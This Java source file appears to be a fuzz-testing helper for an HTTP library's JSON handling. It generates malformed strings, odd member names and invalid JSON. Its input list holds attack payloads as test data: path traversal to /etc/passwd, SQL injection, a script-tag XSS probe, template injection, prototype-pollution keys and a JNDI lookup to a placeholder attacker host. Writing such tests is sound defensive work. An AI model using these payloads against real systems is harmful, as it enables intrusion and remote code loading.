package io.portcullis.http;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.List;
import java.util.Random;

/** Texts and JSON that somebody may send in earnest, or to see what happens. */
final class HostileText {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\0",
            "\uFEFF",
            "\u202Eabc",
            "\uD800",
            "\uDC00\uD800",
            "\\u0022",
            "\\\\u005c",
            "%00",
            "%252e%252e%252f",
            "../../etc/passwd",
            "' or '1'='1' --",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "null",
            "true",
            "a@b",
            "@",
            "a@@b.example",
            "a@[127.0.0.1]",
            "a@xn--.example",
            "a@xn--\u0080.example",
            "a@xn--zzzzzzzzzz-999999999.example",
            "a@-.-",
            "a@.",
            "a@\u00AD\u200D.example",
            "a@\u3002\uFF0E\uFF61",
            "\"a b\"@c.example",
            "prt1.",
            "pdt1.AAAA",
            "pec1.====",
            "fake.token",
            "\u0301".repeat(300),
            "\uD83D\uDE00".repeat(257),
            "\u00DF\u03C2\u0130\u0131",
            "\uFDFA".repeat(100));

    private static final List<String> NAMES = List.of(
            "",
            " ",
            "\0",
            "~",
            "/",
            "~1~0/",
            "%",
            "#",
            "__proto__",
            "constructor",
            "roles",
            "Email",
            "email ",
            "\u0435mail",
            "e\u200Dmail",
            "password\0",
            "\uD83D\uDE00",
            "\uDC00",
            "\"",
            "\\",
            "\\u0065mail",
            "$ref",
            "@type");

    private static final List<String> NO_TEXTS = List.of(
            "null",
            "true",
            "false",
            "0",
            "-0",
            "-0.0",
            "1e999999999",
            "1E-999999999",
            "9223372036854775808",
            "[]",
            "{}",
            "[null]",
            "[\"a\",\"b\"]",
            "{\"value\":\"a\"}",
            "{\"\":{\"\":[]}}");

    private static final List<String> NO_JSON = List.of(
            "NaN",
            "Infinity",
            "-Infinity",
            "undefined",
            "None",
            "True",
            "nul",
            "01",
            "-01",
            "+1",
            ".5",
            "1.",
            "-",
            "1e",
            "1e+",
            "0x10",
            "1_000",
            "'a'",
            "`a`",
            "a",
            "\"\\x41\"",
            "\"\\u12G4\"",
            "\"\\u{41}\"",
            "\"\\\"",
            "\"\t\"",
            "\"\n\"",
            "\"\0\"",
            "[1,]",
            "[,1]",
            "{,}",
            "{\"a\"}",
            "{\"a\":}",
            "{a:1}",
            "{\"a\":1,}",
            "{\"a\":1 \"b\":2}",
            "[1}",
            "1 // one",
            "1 /* one */",
            "# one",
            "{\"a\":1,\"a\":1}",
            "[{\"a\":1,\"\\u0061\":2}]");

    private final Random random;

    HostileText(Random random) {
        this.random = random;
    }

    /** Any text, made from that one or not; it may hold unpaired surrogates. */
    String text(String right) {
        return switch (random.nextInt(6)) {
            case 0 -> pick(TEXTS) + right;
            case 1 -> insert(right, pick(TEXTS));
            case 2 -> right.substring(0, random.nextInt(right.length() + 1));
            case 3 -> characters(1 + random.nextInt(40));
            case 4 -> "a@" + characters(1 + random.nextInt(12)) + ".example";
            default -> pick(TEXTS).repeat(1 + random.nextInt(3));
        };
    }

    /** A member's name, seldom a short one. */
    String name() {
        return switch (random.nextInt(5)) {
            case 0 -> "n".repeat(60 + random.nextInt(10));
            case 1 -> characters(random.nextInt(100));
            default -> pick(NAMES);
        };
    }

    /** A JSON value that is no string. */
    String noText() {
        return switch (random.nextInt(6)) {
            case 0 -> "9".repeat(1 + random.nextInt(3_000));
            case 1 -> "-" + random.nextInt(1_000) + "." + "0".repeat(random.nextInt(3_000)) + "1";
            case 2 -> nested(1 + random.nextInt(3_000));
            default -> pick(NO_TEXTS);
        };
    }

    /** What is no JSON value where one should be. */
    String noJson() {
        return pick(NO_JSON);
    }

    /** The text as a JSON string, some of its characters escaped; all those that have to be. */
    String quoted(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        text.codePoints().forEach(point -> {
            boolean must = point < 0x20 || point == '"' || point == '\\' || (point >= 0xD800 && point < 0xE000);
            if (must || random.nextInt(20) == 0) {
                for (char unit : Character.toChars(point)) {
                    quoted.append(String.format(random.nextBoolean() ? "\\u%04x" : "\\u%04X", (int) unit));
                }
            } else {
                quoted.appendCodePoint(point);
            }
        });
        return quoted.append('"').toString();
    }

    /** The bytes, each as a character, changed in a few places. */
    String mutated(String bytes) {
        StringBuilder mutated = new StringBuilder(bytes);
        for (int i = random.nextInt(4); i >= 0; i--) {
            int at = random.nextInt(mutated.length() + 1);
            int end = Math.min(mutated.length(), at + 1 + random.nextInt(8));
            switch (random.nextInt(6)) {
                case 0 -> mutated.insert(at, (char) random.nextInt(256));
                case 1 -> mutated.delete(at, end);
                case 2 -> mutated.insert(random.nextInt(mutated.length() + 1), mutated.substring(at, end));
                case 3 -> mutated.insert(at, "{}[]\",:\\ \t".charAt(random.nextInt(10)));
                case 4 -> mutated.insert(at, inBytes(pick(TEXTS).replace('\uD800', 'x')));
                default -> {
                    if (at < mutated.length()) {
                        mutated.setCharAt(at, (char) (mutated.charAt(at) ^ (1 << random.nextInt(8))));
                    }
                }
            }
        }
        return mutated.toString();
    }

    /** The text put somewhere into another. */
    String insert(String text, String inserted) {
        int at = random.nextInt(text.length() + 1);
        return text.substring(0, at) + inserted + text.substring(at);
    }

    <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    /** Its UTF-8, a character for each byte. */
    static String inBytes(String text) {
        return new String(text.getBytes(UTF_8), ISO_8859_1);
    }

    private static String nested(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    /** Any 16-bit units, most of them of the lower planes. */
    private String characters(int length) {
        StringBuilder characters = new StringBuilder();
        for (int i = 0; i < length; i++) {
            characters.append(
                    (char) random.nextInt(random.nextBoolean() ? 0x80 : random.nextBoolean() ? 0x800 : 0x10000));
        }
        return characters.toString();
    }
}
